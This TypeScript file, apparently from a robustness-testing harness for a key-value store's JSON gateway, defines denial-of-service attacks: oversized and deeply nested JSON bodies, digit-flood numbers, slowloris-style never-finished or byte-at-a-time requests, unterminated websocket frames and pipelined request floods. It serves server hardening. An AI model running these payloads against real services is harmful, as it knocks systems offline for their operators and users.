import { once } from "node:events";
import type { Socket } from "node:net";
import { WebSocket } from "ws";
import { type Attack, kv, settled } from "./attack.js";
import { firstOf } from "./raw-connection.js";
import type { Stage } from "./stage.js";

// Attacks on the JSON gateway and its websockets.

const mebibyte = 1024 * 1024;

/** Posts a body over HTTP/1.1. Resolves when the server has answered or hung up. */
async function post(stage: Stage, path: string, body: string): Promise<void> {
  const socket = await stage.dial("http/1.1");
  const token = stage.token === undefined ? "" : `Authorization: ${stage.token}\r\n`;
  socket.write(`POST ${path} HTTP/1.1\r\nHost: localhost\r\n${token}Content-Length: ${body.length}\r\n\r\n`);
  socket.write(body);
  await firstOf(socket, "data", "close");
  socket.destroy();
}

/** Sends the beginning of a request whose body never ends. */
async function begin(stage: Stage, path: string, body: string): Promise<Socket> {
  const socket = await stage.dial("http/1.1");
  socket.write(`POST ${path} HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5000000\r\n\r\n`);
  if (!socket.write(body)) await firstOf(socket, "drain", "close", "data");
  return socket;
}

function deep(open: string, close: string, times: number): string {
  return `${open.repeat(times)}${close.repeat(times)}`;
}

const bodies: readonly (readonly [name: string, path: string, body: (mebibytes: number) => string])[] = [
  [
    "many comparisons",
    "/v3/kv/txn",
    (size) => `{"compare":[${'{"key":"YQ==","target":"VERSION","version":"1"},'.repeat(size * 21_000)}{}]}`,
  ],
  ["a number of very many digits", "/v3/kv/range", (size) => `{"limit":${"9".repeat(size * mebibyte)}}`],
  ["a fraction of very many digits", "/v3/kv/range", (size) => `{"limit":1.${"0".repeat(size * mebibyte)}1}`],
  ["an exponent of very many digits", "/v3/kv/range", (size) => `{"limit":"1e-${"9".repeat(size * mebibyte)}"}`],
  ["a key of escapes", "/v3/kv/range", (size) => `{"key":"${"\\u0041".repeat(size * 170_000)}"}`],
  ["lists in lists", "/v3/kv/range", (size) => `{"x":${deep("[", "]", (size * mebibyte) / 2)}}`],
  ["objects that never close", "/v3/kv/range", (size) => '{"a":'.repeat(size * 200_000)],
  [
    "transactions in transactions",
    "/v3/kv/txn",
    (size) => `{"success":[${deep('{"request_txn":{"success":[', "]}}", size * 30_000)}]}`,
  ],
  [
    "fields that nobody knows",
    "/v3/kv/range",
    (size) => `{${Array.from({ length: size * 80_000 }, (_, at) => `"k${at}":0`).join(",")}}`,
  ],
  ["a value of base64", "/v3/kv/put", (size) => `{"key":"YQ==","value":"${"QUJD".repeat(size * 262_144)}"}`],
];

export const httpAttacks: readonly Attack[] = [
  ...bodies.map(
    ([name, path, body]): Attack => ({
      name: `a JSON body: ${name}`,
      run: (stage, scale) => post(stage, path, body(scale === "short" ? 2 : 7)),
    }),
  ),
  {
    name: "bodies that never come whole",
    async run(stage, scale) {
      const count = scale === "short" ? 100 : 500;
      const sockets = await Promise.all(
        Array.from({ length: count }, () => begin(stage, "/v3/kv/put", `{"value":"${"A".repeat(mebibyte)}`)),
      );
      await settled(stage.client().unary(kv, "Range", { key: "x" }));
      for (const socket of sockets) socket.destroy();
    },
  },
  {
    name: "bodies that come one byte at a time",
    async run(stage, scale) {
      const count = scale === "short" ? 100 : 200;
      const sockets = await Promise.all(Array.from({ length: count }, () => begin(stage, "/v3/kv/put", "{")));
      for (let at = 0; at < 50; at++) for (const socket of sockets) socket.write(" ");
      await post(stage, "/v3/kv/range", '{"key":"YQ=="}');
      for (const socket of sockets) socket.destroy();
    },
  },
  {
    name: "websockets that never finish what they say",
    async run(stage, scale) {
      const count = scale === "short" ? 20 : 80;
      const scheme = stage.options.security === "tls" ? "wss" : "ws";
      const sockets = await Promise.all(
        Array.from({ length: count }, async () => {
          const socket = new WebSocket(`${scheme}://${stage.target}/v3/watch`, { rejectUnauthorized: false });
          socket.on("error", () => undefined);
          await Promise.race([once(socket, "open"), once(socket, "close")]);
          return socket;
        }),
      );
      for (const socket of sockets) {
        if (socket.readyState === WebSocket.OPEN) {
          socket.send(`{"create_request":{"key":"${"A".repeat(6 * mebibyte)}`, { fin: false });
        }
      }
      await settled(stage.client().unary(kv, "Range", { key: "x" }));
      for (const socket of sockets) socket.terminate();
    },
  },
  {
    name: "requests in one piece on one connection",
    async run(stage, scale) {
      const socket = await stage.dial("http/1.1");
      const body = '{"key":"c3RvcmVkLw==","range_end":"c3RvcmVkMA==","limit":"100"}';
      const one = `POST /v3/kv/range HTTP/1.1\r\nHost: x\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
      socket.write(one.repeat(scale === "short" ? 500 : 5_000));
      socket.resume();
      socket.end();
      if (!socket.closed) await once(socket, "close");
    },
  },
];
